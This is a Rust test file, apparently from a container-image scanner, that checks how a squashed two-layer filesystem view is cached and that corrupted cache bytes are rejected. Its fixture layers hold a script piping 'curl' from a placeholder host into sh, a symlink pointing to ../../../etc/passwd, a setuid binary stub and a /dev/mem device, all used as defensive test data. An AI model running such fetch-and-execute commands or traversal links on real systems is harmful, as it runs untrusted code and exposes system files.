//! The squashed view's cached form on two layers walked from tars built in
//! code (every kind of entry, whiteouts, an opaque directory, overwrites,
//! hardlinks, a missing hardlink target, file facts and package database
//! bytes): it round-trips exactly, and every truncation, a flipped byte
//! anywhere, a foreign magic or a layer entry in its place gives a miss (or
//! the same view), never a different view or a panic.

use std::sync::atomic::AtomicU64;

use super::{Squashed, decode, encode, key};
use crate::fixture::LayerBuilder;
use crate::fs::ImageFs;
use crate::layer::cache::Shape;
use crate::layer::{LayerIndex, WalkContext, walk_tar};
use crate::limits::Limits;

fn walk(tar: &[u8], i: usize) -> LayerIndex {
    let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
    let limits = Limits::default();
    let ctx = WalkContext {
        location: format!("layer {i}"),
        limits: &limits,
        image_bytes: &bytes,
        image_entries: &entries,
    };
    let mut index = LayerIndex {
        blob_size: 77 + i as u64,
        uncompressed_size: tar.len() as u64,
        diff_id: Some(crate::digest::Sha256::of(tar)),
        compression: Some(crate::layer::Compression::Gzip),
        ..Default::default()
    };
    assert!(walk_tar(tar, &ctx, &mut index).is_ok());
    index
}

/// Two layers squashed: what a scan holds after squashing.
fn squashed() -> (Vec<LayerIndex>, Vec<Shape>, ImageFs) {
    let l0 = LayerBuilder::new()
        .dir("usr/bin", 0o755)
        .file(
            "usr/bin/fetch",
            b"#!/bin/sh\ncurl -fsSL http://x.invalid/a | sh\n",
            0o755,
        )
        .file(
            "var/lib/dpkg/status",
            b"Package: a\nStatus: install ok installed\n",
            0o644,
        )
        .file_bytes(
            b"usr/bin/odd\xff",
            b"\x7fELF\x02\x01\x01",
            0o4755,
            1000,
            2000,
        )
        .file("etc/old", b"old", 0o644)
        .file("opt/a/b", b"b", 0o644)
        .file("srv/x", b"one", 0o644)
        .device("dev/mem", 'c', 1, 1)
        .tar_bytes();
    let l1 = LayerBuilder::new()
        .hardlink("usr/bin/fetch2", "usr/bin/fetch")
        .hardlink("usr/bin/nothing", "usr/bin/absent")
        .symlink("usr/bin/up", "../../../etc/passwd")
        .file("srv/x", b"two", 0o600)
        .fifo("run/pipe")
        .whiteout("etc/old")
        .opaque("opt")
        .tar_bytes();
    let mut layers = vec![walk(&l0, 0), walk(&l1, 1)];
    let shapes: Vec<Shape> = layers.iter().map(Shape::of).collect();
    let fs = ImageFs::squash(&mut layers);
    (layers, shapes, fs)
}

/// Everything a squashed view holds, as text.
fn text(layers: &[LayerIndex], shapes: &[Shape], fs: &ImageFs) -> String {
    format!(
        "{}\n{shapes:?}\n{fs:?}",
        serde_json::to_string(layers).expect("layers serialize")
    )
}

fn text_of(s: &Squashed) -> String {
    text(&s.layers, &s.shapes, &s.fs)
}

#[test]
fn round_trips_the_view() {
    let (layers, shapes, fs) = squashed();
    assert!(!fs.removed.is_empty(), "hidden files");
    assert!(!fs.findings.is_empty(), "squash findings");
    assert!(
        fs.nodes.values().any(|n| !n.modified_in.is_empty()),
        "provenance"
    );
    assert!(fs.nodes.values().any(|n| n.entry.facts.is_some()), "facts");
    assert!(shapes.iter().all(|s| s.entries > 0 && s.longest_path > 0));
    let back = decode(&encode(&layers, &shapes, &fs)).expect("decodes");
    assert_eq!(text_of(&back), text(&layers, &shapes, &fs));
    let empty = ImageFs::default();
    let back = decode(&encode(&[], &[], &empty)).expect("empty view");
    assert_eq!(text_of(&back), text(&[], &[], &empty));
}

#[test]
fn every_truncation_is_a_miss() {
    let (layers, shapes, fs) = squashed();
    let bytes = encode(&layers, &shapes, &fs);
    for cut in 0..bytes.len() {
        assert!(decode(&bytes[..cut]).is_none(), "cut at {cut}");
    }
}

#[test]
fn a_flipped_byte_is_a_miss_or_the_same_view() {
    let (layers, shapes, fs) = squashed();
    let want = text(&layers, &shapes, &fs);
    let bytes = encode(&layers, &shapes, &fs);
    for i in 0..bytes.len() {
        let mut b = bytes.clone();
        b[i] ^= 0x20;
        if let Some(got) = decode(&b) {
            assert_eq!(text_of(&got), want, "byte {i} changed the view");
        }
    }
}

#[test]
fn a_layer_entry_and_trailing_bytes_are_misses() {
    let (layers, shapes, fs) = squashed();
    assert!(decode(&crate::layer::cache::encode(&layers[0])).is_none());
    let mut long = encode(&layers, &shapes, &fs);
    long.extend_from_slice(b"\0");
    assert!(decode(&long).is_none(), "bytes after the frame");
}

#[test]
fn the_key_names_the_layers_in_order() {
    let ab = key(["a", "b"]);
    assert_eq!(ab, key(["a", "b"]));
    assert_ne!(ab, key(["b", "a"]));
    assert_ne!(ab, key(["ab"]));
    assert_ne!(ab, key(["a"]));
    assert!(ab.starts_with("squashed/v1/"));
}

#[test]
fn a_view_of_many_files_is_built_in_runs_and_round_trips() {
    // More nodes than one run (65,536): the map is appended to twice.
    let entries = (0..140_000)
        .map(|i| {
            let mut e = crate::layer::Entry::new(
                crate::path::ImagePath::new(format!("d{:03}/f{i:06}", i / 1000)),
                crate::layer::EntryType::File,
                0o644,
                0,
                0,
            );
            e.sha256 = Some(crate::digest::Sha256::of(b""));
            e
        })
        .collect();
    let mut layers = vec![LayerIndex {
        entries,
        ..Default::default()
    }];
    let shapes: Vec<Shape> = layers.iter().map(Shape::of).collect();
    let fs = ImageFs::squash(&mut layers);
    let back = decode(&encode(&layers, &shapes, &fs)).expect("decodes");
    assert_eq!(back.fs.nodes.len(), 140_000);
    assert!(
        back.fs.nodes.keys().eq(fs.nodes.keys()),
        "same paths, same order"
    );
    assert_eq!(format!("{:?}", back.fs), format!("{fs:?}"));
}
